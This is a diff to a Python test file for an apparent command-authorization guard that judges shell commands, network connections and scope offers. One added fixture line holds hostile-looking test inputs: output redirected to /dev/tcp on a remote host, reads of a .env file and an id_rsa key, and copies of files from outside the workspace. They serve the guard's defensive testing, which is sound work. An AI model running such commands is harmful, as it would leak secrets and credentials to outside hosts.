@@ -24,7 +24,8 @@ from sam_tui.core.accesses import (
 )
 from sam_tui.core.authorization.grants.scopes import ScopeOffer, offers, simulated
 from sam_tui.core.authorization.grants.source_offers import sources_offers
-from sam_tui.core.authorization.policy.judgement import CHANGE, CONNECT, READ
+from sam_tui.core.authorization.paths.secrets import Secrets
+from sam_tui.core.authorization.policy.judgement import CHANGE, CONNECT, READ, Judgement
 from sam_tui.core.authorization.policy.policy import Policy
 from sam_tui.core.ids import CallId
 from sam_tui.core.ports.policy import DecisionEntry
@@ -104,6 +105,8 @@ PROJECT = (
     '[[rule]]\neffect = "allow"\ncommand = "make"\n[[rule]]\neffect = "deny"\ncommand = "ls"\n'
 )
 COMMANDS = r"""
+# nothing | ls > /dev/tcp/a.org/80 | cat ../out/.env | cat ../out/id_rsa | cp -r ../out x | cp -r . x
+cat "$X" | cp -r "$X" y
 ls | cat a ../out/x | cat /dev/null | touch sub/a | touch ../out/x | touch sub/a sub/b
 make && touch sub/x | echo x > a | echo x > ../out/x | cat < ../out/x | make -j2 | make > a
 rm -rf build | rm -rf build x | git push origin | git -C sub push | git pull | curl https://a.org/x
@@ -145,6 +148,7 @@ PAST = (
     "https://a.org/y", "https://a.org:8443/", "https://b.a.org/", "connect to a.org:443",
     "connect to b.a.org:80", "connect to x.a.co.uk:80", "connect to a.org.uk:80",
     "connect to /run/docker.sock", "connect to 9.9.9.9:53", "notes.add", "notes.adder",
+    "//make", "$ npm run builder",
 )  # fmt: skip
 """What past calls touched: which of them each scope would have covered is said of it."""
 
@@ -212,6 +216,15 @@ def situations(folder: Path) -> Iterator[tuple[str, Ward, Policy]]:
     )
     yield "aware", ward, aware
     yield "aware bare", ward, replace(aware, sandboxed=lambda: False, mode="ask-all")
+    yield (
+        "home inside",
+        ward,
+        replace(
+            ward.policy(),
+            secrets=Secrets(str(folder / "ws")),
+            protected=(str(folder / "ws/sub/closed"),),
+        ),
+    )
     yield "without parts", ward, replace(ward.policy(), secrets=None, reader=None)
 
 
@@ -263,6 +276,44 @@ def decision(ward: Ward, policy: Policy, operation: str, access: Access) -> Iter
             yield f"    unsaved: {' '.join(offer.choice.id for offer in on_offer)}"
 
 
+ASKED = (
+    ("https://a.org/x",), ("https://a.org/x", "https://a.org/y"), ("https://a.org/x", "https://b.org/"),
+    ("https://a.org/x", "/srv/a/x"), ("http://a.org:8080/x",), ("https://A.org/x",), ("https://a.org",),
+    ("https://sub.a.org/x", "http://sub.a.org/x"), ("/srv/a/x", "/srv/b/y", "/srv/c/z"),
+    ("/srv/a/x", "/srv/b/y", "/srv/c/z", "/srv/d/z"), ("/srv/a/x", "/srv/a/y"), ("/srv/a/x", "/x"),
+    ("/usr",), ("/usr/lib",), ("/",), ("notes.add",), ("notes.add", "notes.list"), ("$ make", "$ make"),
+    ("connect to a.org:443", "connect to a.org:80"), ("connect to a.org:443", "connect to b.org:443"),
+    ("connect to a.org:443", "$ make"), ("connect to localhost:80",), ("connect to github.io:443",),
+    ("connect to xn--a.org:80",), ("connect to a:80",), ("connect to 8.8.8.8:53",), ("keys 'x' in main",),
+)  # fmt: skip
+"""Targets that are asked about together."""
+
+
+def asked_lines(folder: Path) -> Iterator[str]:
+    """The scopes of questions about several things, of other lengths and by other rules."""
+    state = replace(Ward(folder).policy(), roots=(f"{folder}/ws", f"{folder}/more"))
+    for targets in ASKED:
+        judged = [Judgement("ask", "rule", "some-rule", "why", target) for target in targets]
+        yield f"Asked about {', '.join(targets)}"
+        for offer in offers("notes.add", judged, state, seconds=300, keeps=True):
+            yield f"    {offer_line(simulated(offer, past(folder), state))}"
+    one = [Judgement("ask", "rule", "some-rule", "why", "/srv/a/x")]
+    for seconds in (1, 29, 60, 89, 91, 120, 3600):
+        _, timed = offers("x", one, state, seconds=seconds, keeps=True)[:2]
+        yield f"For {seconds} seconds: {timed.choice.words} ({timed.choice.seconds})"
+    for rule in ("user:1", "project:2", "session:3", "system:4", "local-secret:a key", "userless"):
+        judged = [replace(one[0], rule=rule)]
+        on_offer = offers("x", judged, state, seconds=60, keeps=True, once="just this")
+        yield f"By {rule}: {' '.join(offer.choice.id for offer in on_offer)}, {on_offer[0].choice.words}"
+        yield f"    {offer_line(on_offer[2])}"
+    without = replace(state, reader=None, roots=())
+    reading = state.reader and state.reader.read("make x")
+    made = [Judgement("ask", "rule", "some-rule", "why", "$ make x", reading)]
+    for told in (state, without):
+        for offer in offers("x", made, told, seconds=60, keeps=True):
+            yield f"    {offer_line(simulated(offer, past(folder), told))}"
+
+
 def name(access: Access) -> str:
     """An access as it is listed."""
     match access:
@@ -295,6 +346,7 @@ def lines(folder: Path) -> Iterator[str]:
             told = f", scopes {numbers.setdefault(scopes, len(numbers))}" if scopes else ""
             yield f"  {first}{told} [{'others' if names is most else ', '.join(names)}]"
             yield from () if known else scopes.split("\n")
+    yield from (line.replace(str(folder), "") for line in asked_lines(folder))
 
 
 @pytest.mark.requirement("guard:modes", "guard:policy-order", "guard:scopes")
